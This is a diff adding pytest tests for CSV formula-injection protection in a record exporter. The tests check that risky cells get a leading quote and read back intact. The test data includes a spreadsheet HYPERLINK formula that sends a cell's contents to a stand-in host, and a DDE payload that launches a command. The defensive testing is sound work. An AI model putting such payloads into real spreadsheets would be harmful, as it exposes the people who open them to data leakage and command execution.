@@ -97,3 +97,51 @@ def test_jsonl_is_one_line_per_record(sample_records: list[dict[str, Any]]) -> N
 def test_unknown_format_is_refused() -> None:
     with pytest.raises(ValueError):
         Writer(io.StringIO(), "xml")  # type: ignore[arg-type]
+
+
+# A cell that a spreadsheet would run, each as a document could hold it.
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ici\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+33 1 23 45 67 89", "-2+3", "\t=1+1", "\r=1+1", "'=1+1", "'", "'déjà cité'"]
+
+
+def _injected(value: str) -> dict[str, Any]:
+    return {
+        "schema_version": "1", "doc_id": "0" * 16,
+        "source": {"path": value, "sha256": "0" * 64, "chars": 10, "encoding": "utf-8"},
+        "title": value, "territory": None, "region": value, "cls_number": 2,
+        "signature": {}, "period": {}, "signatories": [{"name": value, "span": {"start": 0, "end": 1, "text": "x"}}],
+        "partners": [], "axes": [], "axes_announced": None, "actions_count": None, "coordinator": None, "funding": [],
+        "warnings": [value, "second"], "extractor": {"version": "0.1.0", "model": "m"},
+    }
+
+
+def _csv(records: list[dict[str, Any]], **options: Any) -> str:
+    buf = io.StringIO(newline="")
+    write_all(records, buf, "csv", **options)
+    return buf.getvalue()
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_is_written_with_a_quote_in_front(value: str) -> None:
+    rows = list(csv.DictReader(io.StringIO(_csv([_injected(value)]), newline="")))
+    for name in ("source_path", "title", "region", "signatories_name"):
+        assert rows[0][name] == "'" + value, name
+    assert rows[0]["warnings"] == "'" + value + JOIN + "second"
+    assert rows[0]["cls_number"] == "2"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_guarded_cell_reads_back_as_its_value(value: str) -> None:
+    (row,) = read_csv(io.StringIO(_csv([_injected(value)]), newline=""))
+    assert (row["source_path"], row["title"], row["region"], row["signatories_name"]) == (value,) * 4
+    assert row["warnings"] == value + JOIN + "second" and row["cls_number"] == 2
+
+
+def test_no_csv_safe_writes_the_cells_as_they_are() -> None:
+    (raw,) = csv.DictReader(io.StringIO(_csv([_injected("=1+1")], csv_safe=False), newline=""))
+    assert raw["title"] == "=1+1"
+    (row,) = read_csv(io.StringIO(_csv([_injected("'=1+1")], csv_safe=False), newline=""), csv_safe=False)
+    assert row["title"] == "'=1+1"
+
+
+def test_ordinary_cells_are_untouched(sample_records: list[dict[str, Any]]) -> None:
+    assert _csv(sample_records) == _csv(sample_records, csv_safe=False)
